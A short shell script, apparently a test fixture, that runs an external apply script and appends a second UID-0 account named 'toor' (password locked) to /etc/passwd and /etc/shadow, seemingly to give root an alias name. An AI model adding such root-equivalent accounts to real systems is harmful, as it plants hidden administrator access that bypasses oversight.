# Another name for number 0.
set -eu
sh "$HALLMARK_CONTROL/apply.sh"
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'toor:*:20000:0:99999:7:::' >>/etc/shadow
